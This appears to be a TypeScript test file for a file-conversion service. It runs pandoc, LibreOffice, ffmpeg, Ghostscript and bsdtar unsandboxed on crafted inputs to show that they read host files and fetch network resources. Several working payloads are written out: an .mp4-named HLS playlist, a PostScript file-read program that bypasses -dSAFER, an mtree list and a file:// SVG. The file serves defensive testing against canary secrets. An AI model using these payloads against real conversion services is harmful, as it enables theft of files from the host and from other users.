/** The same traps without the sandbox: shows that the suite would detect a leak, and why the engines' own safe modes do not suffice. */
import { execFile } from "node:child_process";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { beforeEach, describe, expect, it } from "vitest";
import { opened } from "#test/harness/opened.ts";
import { openCanaries } from "./canaries.ts";
import { leakOf } from "./leak.ts";
import { linkedPictures, orgInclude, restIncludes } from "./markup-attacks.ts";
import { linkedDocx, linkedOdt } from "./office-attacks.ts";

let folder: string;
const canaries = opened(openCanaries);
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "filemill-bare-"));
  return () => rm(folder, { recursive: true, force: true });
});

/** Runs a tool unsandboxed, on a file in its own folder. */
async function bare(program: string, name: string, content: string | Uint8Array, args: readonly string[]): Promise<void> {
  await writeFile(join(folder, name), content);
  const env = { PATH: process.env.PATH, HOME: folder, LANG: "C.UTF-8" };
  await promisify(execFile)(program, [...args], { cwd: folder, env, timeout: 150_000, maxBuffer: 2 ** 26 });
}
const resultOf = (name: string): Promise<Buffer> => readFile(join(folder, name));

// LibreOffice first creates its profile, which takes a while.
describe("without the sandbox", { timeout: 200_000 }, () => {
  it.each([
    ["rst", restIncludes],
    ["org", orgInclude],
  ] as const)("pandoc includes the host's files from %s", async (reader, contentOf) => {
    await bare("pandoc", "in", contentOf(canaries.aim), ["-f", reader, "-o", "out.html", "in"]);
    expect(await leakOf(await resultOf("out.html"), "html", canaries.secret)).toBe("the secret's text");
  });

  it("pandoc fetches pictures from files and the network", async () => {
    const hits = canaries.hits.length;
    await bare("pandoc", "in.md", linkedPictures(canaries.aim), ["-o", "out.docx", "in.md"]);
    expect(canaries.hits.slice(hits)).toContain("GET /pandoc.png HTTP/1.1");
    expect(await leakOf(await resultOf("out.docx"), "docx", canaries.secret)).toMatch(/^the secret's text in word\/media/);
  });

  it.each([
    ["in.docx", linkedDocx, "GET /docx.png"],
    ["in.odt", linkedOdt, "GET /odt.png"],
  ] as const)("LibreOffice fetches and shows the linked pictures of %s", async (name, contentOf, request) => {
    const hits = canaries.hits.length;
    const profile = `-env:UserInstallation=file://${folder}/profile`;
    const args = [profile, "--headless", "--norestore", "--convert-to", "pdf", "--outdir", folder, name];
    await bare("soffice", name, contentOf(canaries.aim), args);
    expect(canaries.hits.slice(hits).join("\n")).toContain(request);
    expect(await leakOf(await resultOf("in.pdf"), "pdf", canaries.secret)).toBe("the secret's picture on a page");
  });

  it("ffmpeg copies another account's video through a playlist named .mp4", async () => {
    const neighbour = join(folder, "neighbour");
    await mkdir(neighbour);
    const film = [
      "-f",
      "lavfi",
      "-i",
      "testsrc=size=64x64:duration=1",
      "-metadata",
      `service_name=${canaries.secret}`,
      join(neighbour, "a.ts"),
    ];
    await bare("ffmpeg", "unused", "", ["-v", "error", ...film]);
    const playlist = `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${neighbour}/a.ts\n#EXT-X-ENDLIST\n`;
    await bare("ffmpeg", "in.mp4", playlist, ["-v", "error", "-i", "in.mp4", "-c", "copy", "out.ts"]);
    expect((await resultOf("out.ts")).length).toBeGreaterThan(1000);
  });

  it("Ghostscript reads and writes the host's temporary files despite -dSAFER", async () => {
    const { secretFile, outDir } = canaries.aim;
    const program = `%!PS\n/Courier findfont 12 scalefont setfont 20 700 moveto\n(${secretFile}) (r) file 256 string readline pop show\n(${outDir}/bare) (w) file (x) writestring\nshowpage\n`;
    await bare("gs", "in.ps", program, [
      "-dSAFER",
      "-dBATCH",
      "-dNOPAUSE",
      "-q",
      "-sDEVICE=pdfwrite",
      "-sOutputFile=out.pdf",
      "-f",
      "in.ps",
    ]);
    expect(await leakOf(await resultOf("out.pdf"), "pdf", canaries.secret)).toBe("the secret's text on a page");
    expect(await canaries.written()).toContain("bare");
  });

  it("bsdtar reads a host's file that an mtree list refers to", async () => {
    const list = `#mtree\n./secret.txt type=file contents=${canaries.aim.secretFile}\n`;
    await bare("bsdtar", "in.tar", list, ["-cf", "out.tar", "@in.tar"]);
    expect(await leakOf(await resultOf("out.tar"), "tar", canaries.secret)).toBe("the secret's text");
  });

  it("LibreOffice shows a picture of the host that an SVG refers to", async () => {
    const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="file://${canaries.aim.secretPicture}" width="64" height="64"/></svg>`;
    await bare("soffice", "in.svg", svg, [
      `-env:UserInstallation=file://${folder}/profile`,
      "--headless",
      "--norestore",
      "--convert-to",
      "pdf",
      "--outdir",
      folder,
      "in.svg",
    ]);
    expect(await leakOf(await resultOf("in.pdf"), "pdf", canaries.secret)).toBe("the secret's picture on a page");
  });
});
